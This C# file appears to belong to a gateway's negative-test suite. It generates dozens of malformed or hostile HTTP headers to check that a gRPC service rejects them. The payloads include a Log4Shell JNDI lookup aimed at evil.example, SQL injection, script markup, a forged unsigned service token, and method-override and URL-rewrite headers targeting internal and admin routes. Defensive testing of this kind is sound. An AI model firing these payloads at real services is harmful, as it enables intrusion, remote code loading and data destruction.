namespace FocusSuite.BadInputs.Kinds;

/// <summary>Headers that lie, are too long, or speak to somebody behind the gateway.</summary>
public static class HeaderKinds
{
    public static IEnumerable<BadInput> Of(GoodRequest good)
    {
        // What has no body has no type either, whatever it says.
        var typed = good.Route.HasBody ? Verdict.Refused : Verdict.Any;
        return
        [
            .. Values.Select(header => new BadInput($"header: {header.Title}", good.WithHeader(header.Name, header.Value))),
            new("header: Idempotency-Key twice", good.WithHeader("Idempotency-Key", "a").With("Idempotency-Key", "b")),
            new("header: Content-Type of gRPC", good.WithType("application/grpc"), typed),
            new("header: Content-Type of gRPC-Web", good.WithType("application/grpc-web"), typed),
            new("header: Content-Type of gRPC-Web text", good.WithType("application/grpc-web-text"), typed),
            new(
                "header: sixty more",
                Enumerable.Range(0, 60).Aggregate(good.Request, (request, at) => request.With($"X-Filler-{at}", "x"))),
        ];
    }

    private static IEnumerable<(string Title, string Name, string Value)> Values =>
    [
        ("Idempotency-Key empty", "Idempotency-Key", ""),
        ("Idempotency-Key of 256", "Idempotency-Key", new string('k', 256)),
        ("Idempotency-Key of 5,000", "Idempotency-Key", new string('k', 5_000)),
        ("Idempotency-Key not ASCII", "Idempotency-Key", GoodRequest.Raw("ключ-🔑")),
        ("Idempotency-Key with a tab", "Idempotency-Key", "a\tb"),
        ("Idempotency-Key with SQL", "Idempotency-Key", "'; DROP TABLE idempotency; --"),
        ("Accept XML", "Accept", "application/xml"),
        ("Accept nonsense", "Accept", ";;;q=abc,,,"),
        ("Accept events", "Accept", "text/event-stream"),
        ("Accept-Encoding nonsense", "Accept-Encoding", "gzip;q=abc, zstd;q=9, *;q=-1"),
        ("Accept-Language overlong", "Accept-Language", string.Join(',', Enumerable.Repeat("en-GB;q=0.5", 400))),
        ("Content-Encoding of what is plain", "Content-Encoding", "gzip"),
        ("X-HTTP-Method-Override", "X-HTTP-Method-Override", "DELETE"),
        ("X-Original-URL", "X-Original-URL", "/focus.identity.v1.IdentityInternalService/PutUser"),
        ("X-Rewrite-URL", "X-Rewrite-URL", "/admin"),
        ("X-Forwarded-For nonsense", "X-Forwarded-For", "';--, 999.999.1.1, ::::, unknown"),
        ("X-Forwarded-Proto nonsense", "X-Forwarded-Proto", "javascript"),
        ("X-Forwarded-Host", "X-Forwarded-Host", "evil.example"),
        ("Forwarded nonsense", "Forwarded", "for=\"[::\";by=;;host=,"),
        ("focus-service-token forged", "focus-service-token", "eyJhbGciOiJub25lIn0.e30."),
        ("x-http-status", "x-http-status", "500"),
        ("grpc-timeout of a nanosecond", "grpc-timeout", "1n"),
        ("grpc-timeout nonsense", "grpc-timeout", "99999999999999S"),
        ("grpc-encoding unknown", "grpc-encoding", "br"),
        ("grpc-status", "grpc-status", "13"),
        ("metadata in bad base64", "trace-bin", "%%%"),
        ("traceparent nonsense", "traceparent", "00-zzzz-1-ff"),
        ("traceparent of zeros", "traceparent", "00-00000000000000000000000000000000-0000000000000000-00"),
        ("tracestate overlong", "tracestate", new string('t', 4_000)),
        ("baggage overlong", "baggage", "a=" + new string('b', 4_000)),
        ("x-request-id with markup", "x-request-id", "<script>alert(1)</script>"),
        ("x-request-id overlong", "x-request-id", new string('r', 4_000)),
        ("WebSocket without a key", "Upgrade", "websocket"),
        ("Upgrade to h2c", "Upgrade", "h2c"),
        ("Range", "Range", "bytes=0-99999999999999999999"),
        ("If-None-Match nonsense", "If-None-Match", "\"unclosed"),
        ("If-Modified-Since nonsense", "If-Modified-Since", "yesterday"),
        ("Cookie overlong", "Cookie", "a=" + new string('c', 8_000)),
        ("Origin null", "Origin", "null"),
        ("Origin of a stranger", "Origin", "https://evil.example"),
        ("Referer with markup", "Referer", "\"><img src=x>"),
        ("User-Agent of Log4Shell", "User-Agent", "${jndi:ldap://evil.example/a}"),
        ("User-Agent not ASCII", "User-Agent", GoodRequest.Raw("Mozilla/5.0 🦊")),
        ("User-Agent overlong", "User-Agent", new string('u', 8_000)),
        ("Last-Event-ID nonsense", "Last-Event-ID", "%00;DROP"),
        ("Host of a stranger", "Host", "evil.example"),
        ("Expect 100-continue", "Expect", "100-continue"),
        ("Prefer nonsense", "Prefer", "wait=-1"),
    ];
}
